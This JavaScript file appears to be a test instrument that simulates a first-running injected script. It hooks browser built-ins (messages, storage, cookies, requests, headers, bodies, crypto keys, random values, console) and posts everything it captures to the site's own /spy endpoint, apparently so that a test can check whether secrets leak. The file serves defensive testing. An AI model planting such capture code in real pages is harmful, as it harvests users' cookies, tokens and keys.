/**
 * Runs in the page before everything else and records what a script of the page could see: messages to and from
 * workers, storage, addresses, requests, headers, text that is parsed, created or decoded, console output.
 *
 * It stands for an injected script with the best chances: it runs first and wraps every built-in. It sends what it sees
 * to the site's `/spy`, in order; what is left when the page goes away is sent with a beacon. It stores nothing in the
 * page, where the search for secrets would find it.
 */
(() => {
  // biome-ignore lint/suspicious/noRedundantUseStrict: pages load this as a classic script
  'use strict';

  const { apply, construct, getOwnPropertyDescriptor } = Reflect;
  const native = {
    fetch: window.fetch.bind(window),
    beacon: navigator.sendBeacon.bind(navigator),
    stringify: JSON.stringify,
    setTimeout: window.setTimeout.bind(window),
    decode: TextDecoder.prototype.decode,
  };
  const latin1 = new TextDecoder('latin1');

  /** Records whose arrival is not yet confirmed. */
  let waiting = [];
  let sending = null;
  let timer = 0;
  let leaving = false;

  function record(channel, ...values) {
    for (const value of values) waiting.push([channel, render(value, 0, new Set())]);
    if (leaving) part();
    else if (!timer) timer = native.setTimeout(flush, 20);
  }

  async function flush() {
    timer = 0;
    while (sending) await sending;
    if (!waiting.length) return;
    const { length } = waiting;
    sending = native.fetch('/spy', { method: 'POST', body: native.stringify(waiting) }).then(
      () => (waiting = waiting.slice(length)),
      () => {},
    );
    await sending;
    sending = null;
  }

  addEventListener('pagehide', () => {
    leaving = true;
    part();
  });
  addEventListener('pageshow', () => (leaving = false));

  /** Sends the rest from a page that goes away. A beacon takes 64 KB; a part may arrive twice, which does no harm. */
  function part() {
    let batch = [];
    let size = 0;
    const send = () => {
      if (batch.length) native.beacon('/spy', native.stringify(batch));
      batch = [];
      size = 0;
    };
    for (const one of waiting) {
      const weight = one[1].length * 2 + 64;
      if (size + weight > 50_000) send();
      batch.push(one);
      size += weight;
    }
    send();
    waiting = [];
  }

  Object.defineProperty(window, '__spy', { value: { flush } });

  /** Any value as text, with all its readable members. */
  function render(value, depth, seen) {
    if (typeof value === 'string') return value;
    if (value === null || typeof value !== 'object') {
      try {
        return String(value);
      } catch {
        return '';
      }
    }
    if (depth > 6 || seen.has(value)) return '';
    seen.add(value);
    const inner = (one) => render(one, depth + 1, seen);
    try {
      if (value instanceof ArrayBuffer) return octets(new Uint8Array(value));
      if (ArrayBuffer.isView(value)) return octets(new Uint8Array(value.buffer, value.byteOffset, value.byteLength));
      if (value instanceof Error)
        return [value.name, value.message, value.stack, ...Object.values(value).map(inner)].join(' ');
      if (value instanceof URLSearchParams || value instanceof URL) return value.toString();
      if (value instanceof Headers || value instanceof FormData || value instanceof Map) {
        return [...value].map(([name, one]) => `${name}: ${inner(one)}`).join('\n');
      }
      if (value instanceof Set || Array.isArray(value)) return [...value].map(inner).join(' ');
      if (value instanceof Request) return `${value.method} ${value.url} ${inner(value.headers)}`;
      if (value instanceof Response) return `${value.status} ${value.url} ${inner(value.headers)}`;
      if (value instanceof Node || value instanceof Window || value instanceof MessagePort) return '';
      return Object.entries(value)
        .map(([name, one]) => `${name}: ${inner(one)}`)
        .join('\n');
    } catch {
      return '';
    }
  }

  /** As text, and as base64url, because a verifier is made of random bytes. */
  function octets(bytes) {
    const head = bytes.subarray(0, 200_000);
    const text = apply(native.decode, latin1, [head]);
    const spelled =
      head.length <= 512
        ? btoa(String.fromCharCode(...head))
            .replace(/\+/g, '-')
            .replace(/\//g, '_')
        : '';
    return `${text}\n${spelled}`;
  }

  /** Records arguments and result of a method. */
  function watch(owner, name, channel, { result = true } = {}) {
    const described = owner && getOwnPropertyDescriptor(owner, name);
    if (typeof described?.value !== 'function') return;
    const original = described.value;
    owner[name] = new Proxy(original, {
      apply(target, self, args) {
        record(channel, ...args);
        const answer = apply(target, self, args);
        if (result) {
          if (answer instanceof Promise)
            answer.then(
              (value) => record(channel, value),
              (error) => record(channel, error),
            );
          else record(channel, answer);
        }
        return answer;
      },
    });
  }

  /** Records the arguments of a constructor, and what its instances receive. */
  function watchConstructor(name, channel) {
    const original = window[name];
    if (!original) return;
    window[name] = new Proxy(original, {
      construct(target, args, made) {
        record(channel, ...args);
        return construct(target, args, made);
      },
    });
  }

  /** Records what is assigned to a property, and wraps it if it is a listener. */
  function watchSetter(owner, name, channel, wrap = (value) => value) {
    const described = owner && getOwnPropertyDescriptor(owner, name);
    if (!described?.set) return;
    Object.defineProperty(owner, name, {
      ...described,
      set(value) {
        record(channel, value);
        apply(described.set, this, [wrap(value)]);
      },
    });
  }

  // Messages, in both directions.
  for (const type of [window.Worker, window.SharedWorker, window.MessagePort, window.BroadcastChannel]) {
    watch(type?.prototype, 'postMessage', 'message', { result: false });
  }
  watch(window, 'postMessage', 'message', { result: false });
  for (const name of ['Worker', 'SharedWorker', 'BroadcastChannel']) watchConstructor(name, 'worker');

  const heard = new WeakSet();
  const hear = (event) => {
    if (!(event instanceof MessageEvent) || heard.has(event)) return;
    heard.add(event);
    record('message', event.data);
  };
  const listening = (listener) => {
    if (typeof listener === 'function') {
      return new Proxy(listener, {
        apply(target, self, args) {
          hear(args[0]);
          return apply(target, self, args);
        },
      });
    }
    if (listener && typeof listener.handleEvent === 'function') {
      return { handleEvent: (event) => (hear(event), listener.handleEvent(event)) };
    }
    return listener;
  };
  const wrapped = new WeakMap();
  const { addEventListener: add, removeEventListener: remove } = EventTarget.prototype;
  EventTarget.prototype.addEventListener = function (type, listener, options) {
    if (type !== 'message' || !listener) return apply(add, this, [type, listener, options]);
    if (!wrapped.has(listener)) wrapped.set(listener, listening(listener));
    return apply(add, this, [type, wrapped.get(listener), options]);
  };
  EventTarget.prototype.removeEventListener = function (type, listener, options) {
    return apply(remove, this, [type, wrapped.get(listener) ?? listener, options]);
  };
  for (const type of [window.Worker, window.MessagePort, window.BroadcastChannel]) {
    watchSetter(type?.prototype, 'onmessage', 'listener', listening);
  }
  watchSetter(window, 'onmessage', 'listener', listening);

  // Storage.
  for (const name of ['setItem', 'getItem', 'removeItem']) watch(Storage.prototype, name, 'storage');
  for (const name of ['put', 'add']) watch(window.IDBObjectStore?.prototype, name, 'indexeddb', { result: false });
  watchSetter(Document.prototype, 'cookie', 'cookie');
  watch(window.Cache?.prototype, 'put', 'cache');

  // Addresses.
  for (const name of ['pushState', 'replaceState']) watch(History.prototype, name, 'history');
  watch(window.URLSearchParams?.prototype, 'get', 'address');
  watchConstructor('URL', 'address');
  watchConstructor('URLSearchParams', 'address');
  record('address', location.href, document.referrer);

  // Requests.
  watch(window, 'fetch', 'request');
  watchConstructor('Request', 'request');
  for (const name of ['open', 'send', 'setRequestHeader']) watch(XMLHttpRequest.prototype, name, 'request');
  watch(Navigator.prototype, 'sendBeacon', 'request');
  for (const name of ['set', 'append', 'get']) watch(Headers.prototype, name, 'header');
  watchConstructor('Headers', 'header');
  for (const name of ['text', 'json', 'arrayBuffer', 'blob', 'formData']) watch(Response.prototype, name, 'body');
  for (const type of ['ReadableStreamDefaultReader', 'ReadableStreamBYOBReader'])
    watch(window[type]?.prototype, 'read', 'body');

  // Text.
  for (const name of ['parse', 'stringify']) watch(JSON, name, 'json');
  watch(TextDecoder.prototype, 'decode', 'text');
  watch(TextEncoder.prototype, 'encode', 'text');
  for (const name of ['atob', 'btoa']) watch(window, name, 'text');
  watch(window, 'structuredClone', 'text');

  // Keys and random numbers.
  for (const name of ['digest', 'importKey', 'exportKey', 'sign'])
    watch(window.SubtleCrypto?.prototype, name, 'crypto');
  watch(Crypto.prototype, 'getRandomValues', 'crypto');

  // Errors and the console.
  for (const name of Object.keys(console)) watch(console, name, 'console', { result: false });
  apply(add, window, ['error', ({ message, error }) => record('error', message, error)]);
  apply(add, window, ['unhandledrejection', ({ reason }) => record('error', reason)]);

  // What the browser records about each request.
  new PerformanceObserver((list) => {
    for (const { name } of list.getEntries()) if (!name.endsWith('/spy')) record('performance', name);
  }).observe({ type: 'resource', buffered: true });
})();
